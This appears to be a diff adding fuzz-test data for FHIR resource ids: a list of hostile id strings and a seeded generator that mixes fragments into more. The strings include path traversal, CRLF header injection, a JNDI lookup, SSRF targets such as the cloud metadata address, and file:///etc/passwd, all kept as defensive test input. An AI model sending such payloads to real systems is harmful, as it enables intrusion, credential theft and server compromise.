@@ -70,3 +70,45 @@ def made_up(seed: int, count: int) -> Iterator[str]:
         first, second = chance.choice(_HOSTS), chance.choice(_HOSTS)
         tail = chance.choice(("", "/", "/fhir", "/fhir/", ":8080/fhir", "/fhir?x", "/%2e%2e"))
         yield f"{chance.choice(_SCHEMES)}{first}{chance.choice(_JOINTS)}{second}{tail}"
+
+
+#: What is no FHIR id, or is one that leads elsewhere when it is pasted into an address.
+HOSTILE_IDS = [
+    ".", "..", "...", "../..", "../../admin", "..\\..", "Patient/../..", "x/..", "x/../../y", "./x", "x/.", "/",
+    "//", "//evil.com", "/etc", "///evil.com/fhir", "\\\\evil.com", "@evil.com", "x@evil.com", ":80", ":@evil.com",
+    "x:y@evil.com", "#", "x#y", "#@evil.com", "?", "x?y", "?_count=1", "x?patient=p2", "&patient=p2",
+    "p1&patient=p2", "p1,p2", "p1|p2", "p1;p2", "$everything", "p1/$everything", "p1/_history/1", "_search", "p1*",
+    "{{context.patientId}}", "${jndi:ldap://evil.com/x}", "%", "%2", "%2f", "%2F..", "%2e", "%2e%2e", "%2e%2e%2f",
+    "..%2f..", "..%252f..", "%252e%252e", "%5c", "%23", "%3f", "%40evil.com", "%00", "x%00", "%0d%0aHost:evil.com",
+    "x\r\nHost: evil.com", "x\r\n\r\nGET / HTTP/1.1\r\nHost: evil.com", "x HTTP/1.1\r\nX-Evil: 1", "x\nX-Evil: 1",
+    "x\rX-Evil: 1", "\r\n", "p1\n", "\x00", "x\x00", "\t", " ", " x", "x ", "x y", "\x7f", "\x85", "\u2028",
+    "\u202e", "\ufeffx", "x\u200b", "ä", "ｘ", "１", "①", "٣", "x．．", "．．/．．", "\u2215", "\u2044evil.com",
+    "x\u3002evil.com", "\U0001f600", "é", "e\u0301", "\u212a", "x" * 65, "x" * 10_000, "../" * 3_000,
+    "http://evil.com/x", "https://evil.com/Patient/x", "HTTP://EVIL.COM", "http:evil.com", "urn:uuid:x",
+    "urn:oid:1.2", "javascript:1", "file:///etc/passwd", "gopher://127.0.0.1:6379/_x",
+    "http://169.254.169.254/latest/meta-data", "data:,x", "Patient/", "Patient/Patient/x", "Patient//x",
+    "Medication/", "Medication/x/y", "Group/1", "#contained", "", "null", "-", "-.-", "x" * 64, "1", "A.b-C", "..x",
+    "x..",
+]  # fmt: skip
+
+_ID_STARTS = (
+    "", "p1", "x", "..", ".", "/", "//", "Patient/", "Medication/", "http://", "\\", "%2e%2e", "１", "A-1.", "\r\n",
+    "?", "#",
+)  # fmt: skip
+_ID_JOINTS = (
+    "/", "//", "/../", "..", "\\", "@", ":", "?", "#", "&", "=", ",", "|", ";", "$", " ", "\t", "\r\n", "\n", "\x00",
+    "+", "*", "%2f", "%2F", "%5c", "%23", "%3F", "%40", "%0d%0a", "%00", "%252f", "%25", "\u2028", "\u3002", "／",
+    "＠", "．", ".", "-", "",
+)  # fmt: skip
+_ID_ENDS = (
+    "evil.com", "admin", "p2", "patient=p2", "..", "_history/1", "$everything", "Host: evil.com",
+    "HTTP/1.1\r\nX-Evil: 1", "x" * 60, "1", "", "169.254.169.254/", "é", "%2e%2e/",
+)  # fmt: skip
+
+
+def made_up_ids(seed: int, count: int) -> Iterator[str]:
+    """`count` ids made of what an address gives a meaning to; a few are good ids. The same for a seed."""
+    chance = random.Random(seed)  # noqa: S311 - repeatable, not secret
+    for _ in range(count):
+        middle = (chance.choice(_ID_JOINTS) + chance.choice(_ID_ENDS) for _ in range(chance.randrange(1, 3)))
+        yield chance.choice(_ID_STARTS) + "".join(middle)
